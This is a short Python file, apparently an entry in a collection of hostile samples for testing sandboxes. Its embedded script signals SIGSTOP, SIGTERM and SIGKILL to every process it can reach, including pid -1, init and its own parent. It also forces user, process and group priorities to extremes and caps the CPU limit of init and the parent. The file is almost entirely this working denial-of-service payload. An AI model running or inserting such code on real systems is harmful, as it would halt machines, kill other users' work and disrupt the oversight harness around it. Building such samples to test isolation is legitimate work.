"""Signals every process and user there is, and takes their priority."""

from hostile.corpus import Attack

attack = Attack(
    starts="right",
    added={
        "check-pad1d": """
import os, resource, signal

own = {0, os.getpid(), *map(int, os.listdir("/proc/self/task"))}
targets = [-1, 1, os.getppid(), *range(2, 400), *range(400, 65536, 7)]
for sign in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
    for pid in targets:
        if pid not in own:
            try:
                os.kill(pid, sign)
            except OSError:
                pass
for who, whom in ((os.PRIO_USER, 0), (os.PRIO_PROCESS, 1), (os.PRIO_PGRP, 1)):
    for nice in (-20, 19):
        try:
            os.setpriority(who, whom, nice)
        except OSError:
            pass
for pid in (1, os.getppid()):
    try:
        resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1))
    except OSError:
        pass
print("TRIED")
"""
    },
    tried=True,
)
